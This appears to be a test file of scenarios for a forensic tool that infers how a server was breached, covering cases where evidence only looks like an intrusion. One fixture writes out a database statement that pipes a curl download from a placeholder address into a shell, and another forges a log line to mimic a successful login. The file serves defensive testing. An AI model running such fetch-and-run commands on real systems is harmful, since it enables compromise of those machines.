/** Scenarios in which something looks like a way in and is none, or is less than it looks. */
import { expect } from 'bun:test';
import {
  accepted,
  container,
  door,
  entry,
  event,
  failures,
  key,
  left,
  miner,
  read,
  service,
  sshd,
  text,
} from '../../src/incident/incident.fixture.ts';
import type { LogEvent } from '../../src/model/facts/event.ts';
import type { Scenario } from './scenario.ts';

const attacker = '203.0.113.66';
const admin = '198.51.100.7';
const mine = 'SHA256:kkkkkkkkkkkkkkkkkkkkk';
const dropped = { files: [left('/root/.x/run.sh', '2024-03-10 02:33:00')] };
const usual = ['01', '02', '05', '08']
  .map((day) => accepted(`2024-03-${day} 09:00:00`, 'root', admin, mine))
  .join('');
const request = (when: string, method: string, target: string, status: number) =>
  event(when, {
    what: 'request',
    server: 'nginx',
    client: text(attacker),
    method: text(method),
    target: text(target),
    status,
    size: 10,
    agent: text('zgrab'),
    referrer: text('-'),
    account: text('-'),
  });

export const traps: readonly Scenario[] = [
  {
    name: "the administrator's own key, minutes before the first file",
    looksLike: 'ssh-key',
    events: read(usual + accepted('2024-03-10 02:31:00', 'root', admin, mine)),
    scene: dropped,
    ways: [],
    also: ({ excluded }) =>
      expect(excluded).toEqual([
        { vector: 'ssh-key', service: 'sshd', what: 'usual-key', count: 1, from: text(admin) },
      ]),
  },
  {
    name: 'the backup of a neighbour comes every night, also in that one',
    looksLike: 'lateral',
    events: read(
      Array.from({ length: 10 }, (_, day) =>
        accepted(
          `2024-03-${String(day + 1).padStart(2, '0')} 02:31:00`,
          'root',
          '10.0.0.5',
          'SHA256:backupbackupbackup1',
        ),
      ).join(''),
    ),
    scene: dropped,
    ways: [],
  },
  {
    name: 'guessing for weeks without a success',
    looksLike: 'ssh-brute-force',
    events: read(
      failures('2024-03-01 00:00:00', 2000, 400, [attacker, '192.0.2.4'], ['root', 'admin', 'test']),
    ),
    scene: dropped,
    ways: [],
    also: ({ excluded }) =>
      expect(excluded).toEqual([
        { vector: 'ssh-brute-force', service: 'sshd', what: 'failed-guesses', count: 2 },
      ]),
  },
  {
    name: 'a name of a user that looks like a success',
    looksLike: 'ssh-brute-force',
    events: read(
      Array.from({ length: 30 }, (_, index) =>
        sshd(
          '2024-03-10 02:31:00',
          `Failed password for invalid user Accepted password for root from ${attacker} port 22 ssh2 from ${attacker} port ${index} ssh2`,
        ),
      ).join(''),
    ),
    scene: dropped,
    ways: [],
  },
  {
    name: 'scans that were answered with 404',
    looksLike: 'scheduler',
    events: [
      '/v1/submissions/create',
      '/ws/v1/cluster/apps',
      '/nacos/v1/auth/users',
      '/v1.24/containers/create',
    ].map((path) => request('2024-03-10 02:31:00', 'POST', path, 404)),
    scene: { files: [left('/tmp/x', '2024-03-10 02:33:00', 'jenkins')] },
    ways: [],
  },
  {
    name: 'typing: five failures and the right password, then a colleague finds the miner',
    looksLike: 'ssh-brute-force',
    events: read(
      failures('2024-03-10 02:30:00', 5, 10, [admin], ['root']) +
        accepted('2024-03-10 02:31:00', 'root', admin),
    ),
    scene: dropped,
    ways: [],
  },
  {
    name: 'behind the bridge of Docker everybody is 172.17.0.1',
    looksLike: 'ssh-brute-force',
    events: read(
      failures('2024-03-09 00:00:00', 300, 300, ['172.17.0.1'], ['root', 'admin', 'test']) +
        accepted('2024-03-10 02:31:00', 'root', '172.17.0.1'),
    ),
    scene: dropped,
    ways: [],
  },
  {
    name: 'a container from 172.17.0.1: the door, and nobody named',
    looksLike: 'docker-api',
    events: [
      event('2024-03-10 02:31:00', {
        what: 'container',
        runtime: 'docker',
        action: 'created',
        container: text('deadbeef0001'),
        image: text('alpine'),
        account: text(''),
        from: text('172.17.0.1'),
        detail: text('POST /containers/create'),
      }),
    ],
    scene: {
      containers: [container('deadbeef0001', { startedUs: Date.UTC(2024, 2, 10, 2, 31, 2) * 1000 })],
      entries: [
        entry(
          'docker-container',
          '/var/lib/docker/containers/deadbeef0001/config.v2.json',
          '2024-03-10 02:31:02',
        ),
      ],
      doors: [door('docker', 2375)],
    },
    ways: [{ vector: 'docker-api', grade: 'probable', attackers: [], missing: ['address-hidden'] }],
  },
  {
    name: 'a privileged container of the owner, and a daemon that only listens here',
    looksLike: 'docker-api',
    events: [],
    scene: { containers: [container('c0ffee', { accused: false })], ...dropped },
    ways: [],
  },
  {
    name: 'the clock was set back: the success is uncertain, and so is the way in',
    looksLike: 'ssh-brute-force',
    events: read(
      failures('2024-03-10 02:00:00', 90, 20, [attacker], ['root', 'admin', 'pi']) +
        accepted('2024-03-10 02:31:00', 'root', attacker),
    ).map((one): LogEvent => ({ ...one, certain: false })),
    scene: dropped,
    ways: [{ vector: 'ssh-brute-force', grade: 'probable', missing: ['time-uncertain'] }],
  },
  {
    name: 'logs begin later than the infection: a guess today is not how it began',
    looksLike: 'ssh-brute-force',
    events: read(
      failures('2024-03-10 02:00:00', 90, 20, [attacker], ['root', 'admin', 'pi']) +
        accepted('2024-03-10 02:31:00', 'root', attacker),
    ),
    scene: { files: [left('/root/.x/a', '2024-02-01 00:00:00'), ...dropped.files] },
    ways: [{ vector: 'ssh-brute-force', grade: 'probable', missing: ['traces-before', 'log-begins-later'] }],
    also: ({ infectionWindow }) =>
      expect(infectionWindow).toEqual({ toUs: Date.UTC(2024, 1, 1) * 1000, boundedBy: { to: 'file' } }),
  },
  {
    name: 'nothing in the logs, and the logs were emptied',
    looksLike: 'ssh-brute-force',
    events: read(sshd('2024-03-15 00:00:00', 'Server listening on 0.0.0.0 port 22.')),
    scene: dropped,
    logs: [
      {
        source: { source: text('/var/log/auth.log.1') },
        verified: true,
        status: 'empty',
        nulBytes: 0,
        modifiedUs: Date.UTC(2024, 2, 11) * 1000,
        steps: [],
        gaps: [],
      },
    ],
    ways: [],
    also: ({ gaps, horizon }) => {
      expect(gaps).toEqual([
        { source: text('/var/log/auth.log.1'), what: 'emptied', toUs: Date.UTC(2024, 2, 11) * 1000 },
      ]);
      expect(horizon[0]).toMatchObject({ source: '/var/log/auth.log', fromUs: Date.UTC(2024, 2, 15) * 1000 });
    },
  },
  {
    name: 'lines of a shape that nobody vouches for carry no more than probable',
    looksLike: 'scheduler',
    events: [service('2024-03-10 02:31:00', 'yarn', 'application', { from: attacker, account: 'dr.who' })],
    scene: { files: [left('/tmp/.y', '2024-03-10 02:31:30', 'yarn')] },
    logs: [
      {
        source: { source: text('/var/log/service.log') },
        verified: false,
        status: 'ok',
        nulBytes: 0,
        modifiedUs: 0,
        steps: [],
        gaps: [],
      },
    ],
    ways: [{ vector: 'scheduler', grade: 'probable', missing: ['shape-unverified'] }],
  },
  {
    name: 'a message whose shape nobody vouches for, within a log whose shape is known',
    looksLike: 'scheduler',
    events: [
      {
        ...service('2024-03-10 02:31:00', 'yarn', 'application', { from: attacker, account: 'dr.who' }),
        unverified: true,
      },
    ],
    scene: { files: [left('/tmp/.y', '2024-03-10 02:31:30', 'yarn')] },
    ways: [{ vector: 'scheduler', grade: 'probable', missing: ['shape-unverified'] }],
  },
  {
    name: 'an own replica, and saving all day',
    looksLike: 'redis-replication',
    events: [
      service('2024-03-09 00:00:00', 'redis', 'replica-of', { from: '10.0.0.8' }),
      ...Array.from({ length: 200 }, (_, index) =>
        service(`2024-03-10 ${String(index % 24).padStart(2, '0')}:3${index % 10}:00`, 'redis', 'saved'),
      ),
    ],
    scene: { ...dropped, entries: [entry('cron-user', '/var/spool/cron/root', '2024-03-10 02:34:00')] },
    ways: [],
  },
  {
    name: 'loading dumps by COPY FROM PROGRAM, every night',
    looksLike: 'database-exec',
    events: Array.from({ length: 10 }, (_, day) =>
      service(`2024-03-${String(day + 1).padStart(2, '0')} 02:31:00`, 'postgresql', 'statement', {
        account: 'etl',
        detail: "COPY sales FROM PROGRAM 'gzip -dc /srv/in/sales.gz' WITH (FORMAT csv);",
      }),
    ),
    scene: { files: [left('/tmp/x', '2024-03-10 02:33:00', 'postgres')] },
    ways: [],
  },
  {
    name: 'statements that failed ran nothing',
    looksLike: 'database-exec',
    events: [
      service('2024-03-10 02:31:00', 'postgresql', 'statement-failed', {
        detail: "COPY t FROM PROGRAM 'curl http://192.0.2.1|sh'",
      }),
    ],
    scene: dropped,
    ways: [],
  },
  {
    name: 'an installation beside an attack elsewhere',
    looksLike: 'supply-chain',
    events: [
      event('2024-03-10 02:31:00', {
        what: 'package',
        manager: 'apt',
        action: 'installed',
        package: text('htop'),
        version: text('3'),
      }),
    ],
    scene: dropped,
    ways: [],
  },
  {
    name: 'anonymous asks a cluster and is refused',
    looksLike: 'kubelet',
    events: [
      event('2024-03-10 02:31:00', {
        what: 'container',
        runtime: 'kubernetes',
        action: 'request',
        container: text('default/pods'),
        image: text(''),
        account: text('system:anonymous'),
        from: text(attacker),
        detail: text('create 403 /api/v1/pods'),
      }),
    ],
    scene: {
      miners: [miner('2024-03-10 02:32:00', 'root', { container: 'abc' })],
      doors: [door('kubelet', 10250, true)],
    },
    ways: [],
    also: ({ excluded }) =>
      expect(excluded).toEqual([
        { vector: 'kubelet', service: 'kubernetes', what: 'refused-requests', count: 1 },
      ]),
  },
  {
    name: "somebody else's jobs on the same scheduler",
    looksLike: 'scheduler',
    events: Array.from({ length: 300 }, (_, index) =>
      service(`2024-03-${String(1 + (index % 10)).padStart(2, '0')} 02:31:00`, 'yarn', 'application', {
        account: 'alice',
        from: '10.0.0.7',
      }),
    ),
    scene: { files: [left('/tmp/x', '2024-03-10 02:33:00', 'yarn')] },
    ways: [],
  },
  {
    name: 'configuration that an owner changed, and a job that he runs every day',
    looksLike: 'broker',
    events: [
      service('2024-03-10 02:31:00', 'rocketmq', 'config-changed', {
        from: '10.0.0.7',
        detail: '{brokerRole=SLAVE}',
      }),
      ...['07', '08', '09', '10'].map((day) =>
        service(`2024-03-${day} 02:31:00`, 'xxl-job', 'script', { detail: '/data/gluesource/7_1.sh' }),
      ),
    ],
    scene: { files: [left('/tmp/x', '2024-03-10 02:33:00', 'xxl-job')] },
    ways: [],
  },
  {
    name: 'an administrator from a new address sets up an open Redis, and minutes later there is a dump for cron',
    looksLike: 'ssh-brute-force',
    events: [
      ...read(
        failures(
          '2024-03-01 00:00:00',
          400,
          1900,
          Array.from({ length: 30 }, (_, index) => `203.0.${index}.5`),
          ['root', 'test'],
        ) + accepted('2024-03-10 02:20:00', 'root', '192.0.2.44'),
      ),
    ],
    scene: { entries: [entry('cron-user', '/var/spool/cron/root', '2024-03-10 02:31:00', { dumped: true })] },
    ways: [
      { vector: 'redis-cron', grade: 'probable', missing: ['no-success-logged'] },
      { vector: 'ssh-brute-force', grade: 'probable', missing: ['other-door-proven'] },
    ],
  },
  {
    name: "the administrator's own key from a hotel, minutes before what a web server's account left",
    looksLike: 'ssh-key',
    events: read(usual + accepted('2024-03-10 02:31:00', 'root', '192.0.2.44', mine)),
    scene: { files: [left('/tmp/.x/run.sh', '2024-03-10 02:33:00', 'www-data')] },
    ways: [],
    also: ({ excluded }) => expect(excluded).toMatchObject([{ what: 'usual-key', from: text('192.0.2.44') }]),
  },
  {
    name: "a colleague's key that is in authorized_keys, for the first time and from elsewhere",
    looksLike: 'ssh-key',
    events: read(
      usual + accepted('2024-03-10 02:31:00', 'root', '192.0.2.44', 'SHA256:colleaguecolleague12'),
    ),
    scene: { ...dropped, keys: [key('SHA256:colleaguecolleague12', '2024-01-01 00:00:00', false)] },
    ways: [{ vector: 'ssh-key', grade: 'probable', missing: ['usual-key'] }],
  },
  {
    name: 'wtmp has the name of the address that auth.log has',
    looksLike: 'ssh-brute-force',
    events: [
      ...read(usual + accepted('2024-03-10 02:31:00', 'root', admin)),
      event('2024-03-10 02:31:02', {
        what: 'session',
        phase: 'opened',
        service: 'sshd',
        account: text('root'),
        from: text('admin.example.com'),
        terminal: text('pts/0'),
      }),
    ],
    scene: dropped,
    ways: [],
  },
];
